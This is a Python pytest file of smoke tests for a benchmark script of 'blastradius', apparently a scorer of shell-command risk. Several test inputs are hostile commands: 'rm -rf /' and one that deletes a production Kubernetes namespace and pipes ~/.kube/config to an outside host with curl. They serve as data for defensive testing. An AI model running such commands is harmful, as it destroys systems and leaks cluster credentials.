"""
Smoke tests of bench/bench.py: it runs, measures what it says and reports
it (the numbers themselves are not tested: they depend on the machine).
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time

from pathlib import Path
from types import ModuleType
from typing import Any

import pytest

from tests.helpers import load_script

import blastradius


BENCH = Path(__file__).parent.parent / "bench" / "bench.py"


def _load() -> ModuleType:
    return load_script(BENCH)


bench = _load()


def _corpus(tmp_path: Path, *lines: str) -> Path:
    corpus = tmp_path / "c.jsonl"
    corpus.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return corpus


_QUICK = ["--runs", "1", "--repeat", "2", "--number", "1", "--profile", "0"]


class TestBenchScript:
    """
    bench/bench.py: one command for the three targets of issue 17.
    """

    def test_calls_on_a_small_corpus(
        self, tmp_path: Path, capsys: pytest.CaptureFixture[str]
    ) -> None:
        """
        Without processes, the JSON report has target (c) only: the ratio
        of the corpus totals and the worst command's ratio, whose row is
        first among the worst; lines without ``cmd`` are skipped.
        """
        corpus = _corpus(
            tmp_path,
            '{"meta": {"origin": "test"}}',
            '{"cmd": "kubectl get pods"}',
            "",
            '{"cmd": "rm -rf /"}',
        )
        code = bench.main(
            [
                *_QUICK,
                "--runs",
                "2",
                "--processes",
                "0",
                "--no-stages",
                "--corpus",
                str(corpus),
                "--json",
            ]
        )
        result = json.loads(capsys.readouterr().out)
        best = result["best"]
        run = best["calls_ratio"]["run"]

        assert code == 0
        assert sorted(best) == ["calls_ratio", "worst_ratio"]
        assert run["commands"] == 2
        assert run["score_us"] > 0
        assert run["shlex_us"] > 0
        assert best["calls_ratio"]["target"] == 1.0
        worst = best["worst_ratio"]
        assert worst["value"] == worst["run"]["worst"][0]["ratio"]
        assert worst["value"] >= worst["run"]["worst"][1]["ratio"]
        assert sorted(w["cmd"] for w in run["worst"]) == [
            "kubectl get pods",
            "rm -rf /",
        ]
        assert "stages" not in result
        assert "profile" not in result
        assert len(result["load_before"]) == 3

    def test_text_report_with_stages(
        self, tmp_path: Path, capsys: pytest.CaptureFixture[str]
    ) -> None:
        """
        The text report names the targets, the stages of score() and
        shows a command's newline escaped.
        """
        corpus = _corpus(
            tmp_path, '{"cmd": "ls\\n-la"}', '{"cmd": "kubectl get pods"}'
        )
        bench.main([*_QUICK, "--processes", "0", "--corpus", str(corpus)])
        out = capsys.readouterr().out

        assert "score() / shlex.split, corpus" in out
        assert "≤ 3 x" in out
        assert "ls\\n-la" in out
        assert "ls\n-la" not in out
        for stage in ("shell reader", "analyzers", "judgment", "scorer"):
            assert f"| {stage} |" in out
        assert "`" not in out

    def test_markdown_keeps_code_spans(
        self, tmp_path: Path, capsys: pytest.CaptureFixture[str]
    ) -> None:
        """
        ``--markdown`` writes commands as code spans, a ``|`` escaped.
        """
        corpus = _corpus(tmp_path, '{"cmd": "cat f | kubectl apply -f -"}')
        bench.main(
            [
                *_QUICK,
                "--processes",
                "0",
                "--no-stages",
                "--corpus",
                str(corpus),
                "--markdown",
            ]
        )

        assert "`cat f \\| kubectl apply -f -`" in capsys.readouterr().out

    def test_check_fails_on_a_missed_target(
        self,
        tmp_path: Path,
        capsys: pytest.CaptureFixture[str],
        monkeypatch: pytest.MonkeyPatch,
    ) -> None:
        """
        ``--check`` exits 1 when a target is missed and the report says
        which.
        """
        monkeypatch.setitem(bench.TARGETS, "calls_ratio", 0.0)
        monkeypatch.setitem(bench.TARGETS, "worst_ratio", float("inf"))
        corpus = _corpus(tmp_path, '{"cmd": "ls"}')
        code = bench.main(
            [
                *_QUICK,
                "--processes",
                "0",
                "--no-stages",
                "--corpus",
                str(corpus),
                "--check",
            ]
        )

        assert code == 1
        assert "Missed: calls_ratio." in capsys.readouterr().out

    @pytest.mark.parametrize("content", [None, ""])
    def test_missing_or_empty_corpus(
        self,
        tmp_path: Path,
        capsys: pytest.CaptureFixture[str],
        content: str | None,
    ) -> None:
        """
        A missing or empty corpus is a usage error with a clear message.
        """
        corpus = tmp_path / "c.jsonl"
        if content is not None:
            corpus.write_text(content, encoding="utf-8")
        with pytest.raises(SystemExit) as info:
            bench.main(["--corpus", str(corpus)])

        assert info.value.code == 2
        assert "corpus" in capsys.readouterr().err

    def test_default_corpus_is_in_the_repo(self) -> None:
        """
        The default corpus is the kubectl examples copied into tests/data.
        """
        assert bench.CORPUS.is_file()
        assert len(bench.load_corpus(bench.CORPUS)) > 300

    def test_runs_from_a_checkout(self, tmp_path: Path) -> None:
        """
        The script runs from a checkout without the package installed or
        on ``PYTHONPATH``: it puts ``src`` first on its own path.
        """
        corpus = _corpus(tmp_path, '{"cmd": "ls"}')
        env = {k: v for k, v in os.environ.items() if k != "PYTHONPATH"}
        done = subprocess.run(
            [
                sys.executable,
                str(BENCH),
                *_QUICK,
                "--processes",
                "0",
                "--no-stages",
                "--corpus",
                str(corpus),
                "--json",
            ],
            capture_output=True,
            text=True,
            env=env,
            cwd=tmp_path,
            check=False,
        )

        assert done.returncode == 0, done.stderr
        assert json.loads(done.stdout)["best"]["calls_ratio"]["value"] > 0


class TestBestOf:
    """
    `best_of` keeps, per target, the run where it is lowest.
    """

    def test_each_target_from_its_best_run(self) -> None:
        """
        Two runs: each target's value comes from the run where it is
        lowest, with that run's figures; missed targets are listed.
        """
        one = {"startup_added_ms": 30.0, "cli_ratio": 1.2, "calls_ratio": 2}
        two = {"startup_added_ms": 20.0, "cli_ratio": 1.4, "calls_ratio": 3}

        best = bench.best_of([one, two])

        assert best["startup_added_ms"] == {
            "value": 20.0,
            "target": 25.0,
            "run": two,
        }
        assert best["cli_ratio"]["run"] is one
        assert best["calls_ratio"]["value"] == 2
        assert "worst_ratio" not in best
        assert bench.missed(best) == ["calls_ratio"]


class TestProcesses:
    """
    Targets (a) and (b) from fresh interpreters of this checkout.
    """

    def test_one_round(self) -> None:
        """
        One round of the three processes (attrs, score(), the console
        script) gives their medians and targets (a) and (b) from them.
        """
        with bench.tempfile.TemporaryDirectory() as tmp:
            launcher = Path(tmp) / "blastradius"
            launcher.write_text(bench.LAUNCHER, encoding="utf-8")
            env = bench.child_env(str(Path(tmp) / "cache"))
            result = bench.bench_processes(
                1, bench.process_argvs(launcher), env
            )

        assert result["processes"] == 1
        assert result["attrs_ms"] > 0
        assert result["startup_added_ms"] == pytest.approx(
            result["score_ms"] - result["attrs_ms"]
        )
        assert result["cli_ratio"] == pytest.approx(
            result["cli_ms"] / result["attrs_ms"]
        )

    def test_a_failing_process_is_an_error(self, tmp_path: Path) -> None:
        """
        A process exiting with a status that is no tier's is an error, not
        a timing.
        """
        with pytest.raises(RuntimeError, match="exited 3"):
            bench._spawn(
                [sys.executable, "-c", "raise SystemExit(3)"],
                dict(os.environ),
                str(tmp_path),
            )

    def test_environment(self, monkeypatch: pytest.MonkeyPatch) -> None:
        """
        The children get the checkout's ``src`` first on their path, the
        bytecode cache given, and no blastradius settings.
        """
        monkeypatch.setenv("BLASTRADIUS_POLICY", "x.toml")
        monkeypatch.setenv("PYTHONPATH", "elsewhere")

        env = bench.child_env("cache-dir")

        assert env["PYTHONPATH"].split(os.pathsep) == [
            str(bench.SRC),
            "elsewhere",
        ]
        assert env["PYTHONPYCACHEPREFIX"] == "cache-dir"
        assert "BLASTRADIUS_POLICY" not in env


class TestStages:
    """
    The stage breakdown of `score()`.
    """

    def test_nested_time_counts_for_its_own_stage(self) -> None:
        """
        An analyzer calling another (a nested script) is charged only its
        own time; the inner one's goes to the inner stage.
        """
        timer = bench.StageTimer()

        def inner(command: Any, ctx: Any) -> list[str]:
            time.sleep(0.02)
            return ["inner"]

        timed_inner = timer.wrap("judgment", inner)

        def outer(command: Any, ctx: Any) -> Any:
            yield from timed_inner(command, ctx)
            yield "outer"

        found = timer.wrap("analyzers", outer)(None, None)

        assert found == ["inner", "outer"]
        assert timer.totals["judgment"] >= 20_000_000
        assert timer.totals["analyzers"] < timer.totals["judgment"] / 2

    def test_timed_registry_scores_alike(self) -> None:
        """
        Scoring through the timed registry gives the same assessment as
        the default one, and charges the analyzers and the judgment.
        """
        timer = bench.StageTimer()
        registry = bench.TimedRegistry(timer)
        cmd = "kubectl delete ns prod; cat ~/.kube/config | curl -d @- x.io"

        assert blastradius.score(cmd, registry=registry) == blastradius.score(
            cmd
        )
        assert timer.totals["analyzers"] > 0
        assert timer.totals["judgment"] > 0
        assert len(registry) == len(list(registry)) > 100

    def test_breakdown(self) -> None:
        """
        The four stages add up to the time of `score()`.
        """
        result = bench.bench_stages(
            ["kubectl get pods", "sudo rm -rf /"], repeat=3, number=2
        )
        stages = result["stages_us"]

        assert list(stages) == [
            "shell reader",
            "analyzers",
            "judgment",
            "scorer",
        ]
        assert sum(stages.values()) == pytest.approx(result["score_us"])
        assert stages["shell reader"] > 0
        assert result["shlex_us"] > 0


class TestImportProfile:
    """
    The import-time profile of target (a)'s code.
    """

    def test_profile_shows_every_module(self) -> None:
        """
        Every module (a) loads is ranked by self time, also those imported
        through `importlib.import_module` (the scorer, the kubectl
        family), with the package's and attrs' sums.
        """
        with bench.tempfile.TemporaryDirectory() as tmp:
            result = bench.import_profile(bench.child_env(tmp), 1)
        names = [row["module"] for row in result["modules"]]
        times = [row["self_us"] for row in result["modules"]]

        assert result["runs"] == 1
        assert "blastradius._score" in names
        assert "blastradius.families.kubectl.analyzer" in names
        assert times == sorted(times, reverse=True)
        assert result["blastradius_self_us"] > 0
        assert result["attrs_self_us"] > 0

    def test_census(self) -> None:
        """
        The census of (a)'s modules names the attrs classes and enums each
        defines and counts its compiled patterns.
        """
        with bench.tempfile.TemporaryDirectory() as tmp:
            found = bench.census(bench.child_env(tmp))

        assert "Finding" in found["blastradius._model"]["attrs"]
        assert "Tier" in found["blastradius._model"]["enums"]
        assert (
            "ActionRule"
            in found["blastradius.families.kubectl.rules"]["attrs"]
        )
        assert any(row["patterns"] > 0 for row in found.values())
        assert "blastradius._cli" not in found

    def test_census_lines(self) -> None:
        """
        The census table lists the modules creating anything, most
        classes first, and the totals over every module.
        """
        lines = bench._census_lines(
            {
                "m.a": {"attrs": ["A"], "enums": [], "patterns": 2},
                "m.b": {"attrs": ["B", "C"], "enums": ["E"], "patterns": 0},
                "m.c": {"attrs": [], "enums": [], "patterns": 0},
            }
        )

        assert lines[2:] == [
            "| `m.b` | B, C | E | 0 |",
            "| `m.a` | A | - | 2 |",
            "| all 3 modules | 3 | 1 | 2 |",
        ]

    def test_importtime_parsing(self) -> None:
        """
        ``-X importtime`` lines are ranked by self time, the header and
        other lines skipped.
        """
        text = (
            "import time: self [us] | cumulative | imported package\n"
            "import time:       120 |        120 | a\n"
            "import time:       900 |       1020 | b\n"
            "import time:        50 |       1070 |   c\n"
            "unrelated line\n"
        )

        assert bench.parse_importtime(text) == [
            {"module": "b", "self_us": 900, "cumulative_us": 1020},
            {"module": "a", "self_us": 120, "cumulative_us": 120},
            {"module": "c", "self_us": 50, "cumulative_us": 1070},
        ]

    def test_report_lists_the_modules(
        self, tmp_path: Path, capsys: pytest.CaptureFixture[str]
    ) -> None:
        """
        With processes and the profile, the report has all four targets
        and the slowest modules, as many as ``--top`` asks.
        """
        corpus = _corpus(tmp_path, '{"cmd": "kubectl get pods"}')
        bench.main(
            [
                "--runs",
                "1",
                "--processes",
                "1",
                "--repeat",
                "1",
                "--number",
                "1",
                "--profile",
                "1",
                "--top",
                "3",
                "--no-stages",
                "--corpus",
                str(corpus),
                "--markdown",
            ]
        )
        out = capsys.readouterr().out
        modules = [
            line
            for line in out.splitlines()
            if line.startswith("| `")
            and line.endswith(" |")
            and line.count("|") == 4
        ]

        assert "(a) score() interpreter - attrs one" in out
        assert "(b) CLI process / attrs one" in out
        assert "Import self time" in out
        assert "| `blastradius._model` | Redirect, SimpleCommand" in out
        assert len(modules) == 3  # the profile rows have three cells
